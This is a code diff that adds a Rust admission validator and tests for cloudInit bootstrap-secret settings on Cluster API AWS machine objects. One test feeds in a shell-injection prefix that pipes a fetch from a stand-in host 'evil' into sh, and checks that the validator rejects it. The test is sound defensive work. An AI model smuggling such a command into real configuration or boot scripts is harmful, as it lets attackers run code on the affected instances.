@@ -42,6 +42,62 @@ fn eks_version(value: &Value) -> Option<(u64, u64)> {
     Some((numbers[0], numbers[1]))
 }
 
+/// AWSMachines and AWSMachineTemplates (whose `spec.template.spec` is an AWSMachine's):
+/// Cluster API AWS's rules for where the bootstrap data waits (`spec.cloudInit`). The prefix
+/// of its entries is also a shell word of the instance's boot script: only the characters
+/// AWS allows in a secret's or parameter's name pass.
+pub struct Machines;
+
+impl Strategy for Machines {
+    fn admit(&self, _: &Registry, object: &mut Value, _: Option<&Value>) -> Vec<Cause> {
+        let (spec, path) = if object["kind"] == "AWSMachineTemplate" {
+            (&object["spec"]["template"]["spec"], "spec.template.spec")
+        } else {
+            (&object["spec"], "spec")
+        };
+        let cloud_init = &spec["cloudInit"];
+        let field = |name: &str| format!("{path}.cloudInit.{name}");
+        let mut causes = vec![];
+        let prefix = cloud_init["secretPrefix"].as_str().unwrap_or_default();
+        let count = cloud_init["secretCount"].as_i64().unwrap_or_default();
+        if cloud_init["insecureSkipSecretsManager"] == true {
+            for name in ["secretPrefix", "secretCount", "secureSecretsBackend"] {
+                if set(&cloud_init[name]) && cloud_init[name] != 0 {
+                    causes.push(Cause::forbidden(
+                        field(name),
+                        "cannot be set if spec.cloudInit.insecureSkipSecretsManager is true: the bootstrap data goes into the user data",
+                    ));
+                }
+            }
+        }
+        if prefix.is_empty() != (count == 0) {
+            causes.push(Cause::forbidden(
+                field("secretCount"),
+                "must be set together with spec.cloudInit.secretPrefix",
+            ));
+        }
+        if prefix.len() > 400
+            || !prefix
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"/_+=.@-".contains(&b))
+        {
+            causes.push(Cause::invalid(
+                field("secretPrefix"),
+                &cloud_init["secretPrefix"],
+                "at most 400 of A-Z, a-z, 0-9 and /_+=.@- (what AWS allows in the name of a secret or parameter)",
+            ));
+        }
+        if count < 0 {
+            causes.push(Cause::invalid(
+                field("secretCount"),
+                &cloud_init["secretCount"],
+                "must not be negative",
+            ));
+        }
+        causes
+    }
+}
+
 /// A node group's bounds, as EKS takes them: at least 0, at most at least 1, min ≤ max.
 pub struct ManagedMachinePools;
 
@@ -955,6 +1011,55 @@ mod tests {
         assert!(
             empty.len() == 1 && empty[0].starts_with("spec.scaling.maxSize:"),
             "{empty:?}"
+        );
+    }
+
+    #[test]
+    fn where_bootstrap_data_waits_is_cluster_api_aws_s_choice() {
+        let machine =
+            |cloud_init: Value| json!({"kind": "AWSMachine", "spec": {"cloudInit": cloud_init}});
+        assert!(admit(&Machines, machine(json!({})), None).is_empty());
+        assert!(
+            admit(
+                &Machines,
+                machine(json!({"insecureSkipSecretsManager": true})),
+                None
+            )
+            .is_empty()
+        );
+        let recorded = json!({"secretPrefix": "aws.cluster.x-k8s.io/1c8e", "secretCount": 2});
+        assert!(admit(&Machines, machine(recorded), None).is_empty());
+        assert_eq!(
+            admit(
+                &Machines,
+                machine(
+                    json!({"insecureSkipSecretsManager": true, "secureSecretsBackend": "ssm-parameter-store"})
+                ),
+                None
+            ),
+            [
+                "spec.cloudInit.secureSecretsBackend: Forbidden: cannot be set if spec.cloudInit.insecureSkipSecretsManager is true: the bootstrap data goes into the user data"
+            ]
+        );
+        assert_eq!(
+            admit(
+                &Machines,
+                machine(json!({"secretPrefix": "aws.cluster.x-k8s.io/1c8e"})),
+                None
+            ),
+            [
+                "spec.cloudInit.secretCount: Forbidden: must be set together with spec.cloudInit.secretPrefix"
+            ]
+        );
+        // The prefix is a word of the instance's boot script.
+        let template = json!({"kind": "AWSMachineTemplate", "spec": {"template": {"spec": {"cloudInit":
+            {"secretPrefix": "x'; curl evil | sh; '", "secretCount": 1}}}}});
+        let causes = admit(&Machines, template, None);
+        assert_eq!(causes.len(), 1, "{causes:?}");
+        assert!(
+            causes[0].starts_with("spec.template.spec.cloudInit.secretPrefix: ")
+                && causes[0].contains("at most 400 of"),
+            "{causes:?}"
         );
     }
 
